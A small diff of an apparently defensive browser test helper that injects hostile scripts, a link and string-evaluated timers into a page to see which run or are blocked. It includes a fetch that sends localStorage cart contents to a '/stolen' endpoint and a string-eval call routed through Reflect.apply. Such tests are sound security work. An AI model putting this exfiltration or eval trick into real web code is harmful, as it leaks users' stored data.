@@ -58,7 +58,7 @@ async function inject(page: Page): Promise<{ ran: string[]; blocked: string[] }>
     document.body.append(script, foreign, data, box);
     document.head.append(base);
     document.querySelector<HTMLElement>('#hostile-link')?.click();
-    setTimeout('window.ran.push("evaluated text")' as unknown as () => void, 0);
+    Reflect.apply(setTimeout, window, ['window.ran.push("evaluated text")', 0]);
     void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
       () => window.ran.push('sent away'),
       () => undefined,
